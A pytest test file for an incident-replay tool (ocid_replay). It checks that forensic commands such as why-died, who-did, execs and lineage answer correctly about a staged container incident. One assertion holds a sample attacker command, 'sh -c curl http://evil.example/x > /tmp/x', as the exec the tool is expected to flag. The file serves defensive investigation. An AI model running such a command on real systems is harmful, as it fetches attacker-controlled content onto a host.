"""The answering commands on one staged incident: whole tables against files that a reviewer can read, and JSON.

After a wanted change: ``OCID_REGENERATE_GOLDEN=1 pytest tests/replay/test_answers.py``, then read the diff.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from ocid_replay.__main__ import main

from tests.fakes.incidents import DROPPED, IMAGE, STUBBORN, write_incident
from tests.fakes.lives import Life

HERE = Path(__file__).parent
Run = Callable[..., tuple[int, str, str]]
COMMANDS = {
    "why-died-dropped": ("why-died", "dropped"),
    "why-died-struck": ("why-died", "struck"),
    "why-died-stubborn": ("why-died", "d2"),
    "why-died-unseen": ("why-died", "prod/shop/unseen"),
    "why-died-booted": ("why-died", "booted"),
    "why-died-evicted": ("why-died", "evicted"),
    "why-died-swept": ("why-died", "prod/old"),
    "who-did": ("who-did", "container.exited", "image.removed", "layer.*", "image.added", "image.layers_collected"),
    "who-did-stops": ("who-did", "*.stop_requested", "*.stopped", "*.removed"),
    "execs": ("execs",),
    "lineage": ("lineage", "dropped"),
    "recovery": ("recovery",),
    "orphans": ("orphans",),
    "peers": ("peers",),
    "state-at": ("state-at", "20"),
    "diff": ("diff", "17", "2025-11-24T05:00:00Z"),
}  # fmt: skip


@pytest.fixture(scope="module")
def directory(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("incident") / "log"
    write_incident(path)
    return path


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], directory: Path) -> Run:
    """Return what runs a command in this process: exit code, output, errors."""

    def run_it(*arguments: object, log: Path = directory) -> tuple[int, str, str]:
        command, *rest = map(str, arguments)
        code = main([command, "--log", str(log), *rest], guard=lambda work: work())
        return code, *capsys.readouterr()

    return run_it


@pytest.mark.parametrize("name", COMMANDS)
def test_the_table_is_the_golden_one(run: Run, name: str) -> None:
    code, out, err = run(*COMMANDS[name])
    assert (code, err) == (0, "")
    path = HERE / "golden" / f"{name}.txt"
    if os.environ.get("OCID_REGENERATE_GOLDEN"):
        path.write_text(out)
    assert out == path.read_text(), f"{path.name} differs; see this file's docstring"
    assert out.replace("\n", "").isprintable(), "foreign text could drive the terminal"


@pytest.mark.parametrize("name", COMMANDS)
def test_both_forms_of_json_say_the_same(run: Run, name: str) -> None:
    document = json.loads(run(*COMMANDS[name], "-o", "json")[1])
    lines = [json.loads(line) for line in run(*COMMANDS[name], "-o", "jsonl")[1].splitlines()]
    assert lines
    if len(document) == 1:
        assert lines == next(iter(document.values()))
        return
    summary, *members = lines
    assert summary == {"part": "summary"} | {key: value for key, value in document.items() if type(value) is not list}
    told: dict[str, list[Any]] = {key: [] for key, value in document.items() if type(value) is list}
    for member in members:
        told[member.pop("part")].append(member.get("value", member) if set(member) == {"value"} else member)
    assert told == {key: value for key, value in document.items() if type(value) is list}


def test_the_incident_is_solved_by_programs_too(run: Run) -> None:
    died = json.loads(run("why-died", DROPPED[:8], "-o", "json")[1])
    assert (died["cause"], died["confidence"], died["exit_code"], died["signal"]) == ("oom", "high", 137, "SIGKILL")
    assert any("had not ended then" in one["text"] and "1004" in one["text"] for one in died["evidence"])
    shell = next(one for one in json.loads(run("execs", "-o", "json")[1])["execs"] if one["audit_hints"])
    assert shell["argv"] == ["sh", "-c", "curl http://evil.example/x > /tmp/x"]
    assert (shell["peer"]["login_uid"], shell["bytes_in"], shell["state"]) == (1004, 120, "finished")
    removed = json.loads(run("who-did", "image.removed", "-o", "json")[1])["records"]
    assert [one["asked_by"]["peer"]["login_uid"] for one in removed] == [1004]
    assert removed[0]["event"]["image_id"] == IMAGE


def test_lineage_names_layers_with_the_pull_that_brought_them(run: Run) -> None:
    found = json.loads(run("lineage", STUBBORN, "-o", "json")[1])
    assert [one["reference"] for one in found["layers"]] == ["registry.example/shop/web:1"] * 2
    assert found["pull"]["tls_peer"] == "not recorded"
    assert found["signature"]["verdict"] == "not verified: this build checks no signatures"
    assert found["layers_note"] == ""


def test_filters_hold_for_answers(run: Run) -> None:
    lines = run("execs", "--container", "struck")[1].splitlines()
    assert [line.split()[2] for line in lines[1:]] == ["attach"]
    assert run("who-did", "container.exited", "--container", "struck")[1].count("\n") == 2


def test_inspect_shows_one_thing_in_full_with_its_documents(run: Run) -> None:
    found = json.loads(run("state-at", "40", "--inspect", "dropped")[1])
    assert found["kind"] == "container"
    assert found["documents"]["image_manifest"]["content"]["schemaVersion"] == 2
    assert "missing" in found["documents"]["spec"]
    of_image = json.loads(run("state-at", "40", "--inspect", "registry.example/shop/web:1", "-o", "json")[1])
    assert of_image["documents"]["config"]["content"]["rootfs"]["type"] == "layers"
    code, _, err = run("state-at", "40", "--inspect", "d")
    assert code == 1
    assert "give more of the id" in err


def test_state_at_and_state_agree(run: Run) -> None:
    assert run("state-at", "30")[1] == run("state", "--seq", "30")[1]


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [
        (("why-died", "prod/shop"), 1, "name one of its containers"),
        (("why-died", "nobody"), 1, "not found"),
        (("why-died", "prod/shop/nobody"), 1, "not found"),
        (("lineage", "nobody"), 1, "not found"),
        (("who-did", "image.remved"), 1, "image.remved (no such type is known)"),
        (("state-at", "99999"), 1, "which ends at"),
        (("state-at", "0"), 1, "is no seq"),
        (("state-at", "soon"), 1, "wanted RFC 3339"),
        (("diff", "40", "30"), 1, "exchange them"),
        (("diff", "1", "99999"), 1, "which ends at"),
        (("fold", "--seq", "99999"), 1, "which ends at"),
        (("state-at", "2001-01-01"), 4, ""),
    ],
)
def test_questions_without_an_answer_are_one_clear_line(
    run: Run, arguments: tuple[str, ...], code: int, said: str
) -> None:
    found, _, err = run(*arguments)
    assert (found, said in err, err.count("\n")) == (code, True, 1 if said else 0)


@pytest.mark.parametrize(
    "arguments",
    [("why-died", ""), ("who-did",), ("state-at",), ("diff", "1"), ("why-died", "x" * 5000), ("fold", "-x")],
)
def test_absurd_questions_are_usage_errors(run: Run, arguments: tuple[str, ...]) -> None:
    with pytest.raises(SystemExit) as left:
        run(*arguments)
    assert left.value.code == 64


def test_stats_count_every_record(run: Run) -> None:
    found = json.loads(run("stats", "-o", "json")[1])
    assert sum(kind["count"] for kind in found["kinds"]) == found["records"] == found["last_seq"]
    assert (found["epochs"], found["boots"], found["documents"]) == (3, 2, 3)
    assert "3 documents" in run("stats")[1]


def test_the_log_folds_to_the_same_state_twice(run: Run) -> None:
    code, out, _ = run("fold", "--twice")
    assert code == 0
    assert out.count("sha256:") == 2
    assert "the same each time" in out


def test_a_fold_that_differs_has_an_exit_code_of_its_own(run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("ocid_replay.fold._in_child", lambda *_: "sha256:0")
    code, out, _ = run("fold", "--twice")
    assert code == 9
    assert "NOT THE SAME" in out


@pytest.mark.parametrize("command", ["recovery", "stats", "fold"])
def test_an_empty_log_has_no_answers(run: Run, tmp_path: Path, command: str) -> None:
    Life(tmp_path / "log").store.close()
    assert run(command, log=tmp_path / "log")[0] == 4


@pytest.mark.parametrize("name", COMMANDS)
def test_a_damaged_log_gives_no_answers(run: Run, tmp_path: Path, name: str) -> None:
    write_incident(tmp_path / "log")
    data = tmp_path / "log" / "data.mdb"
    raw = data.read_bytes()
    data.write_bytes(raw.replace(b"/usr/bin/kubelet", b"/usr/bin/kubelot"))
    code, out, err = run(*COMMANDS[name], log=tmp_path / "log")
    assert (code, "Traceback" in out + err) == (2, False)
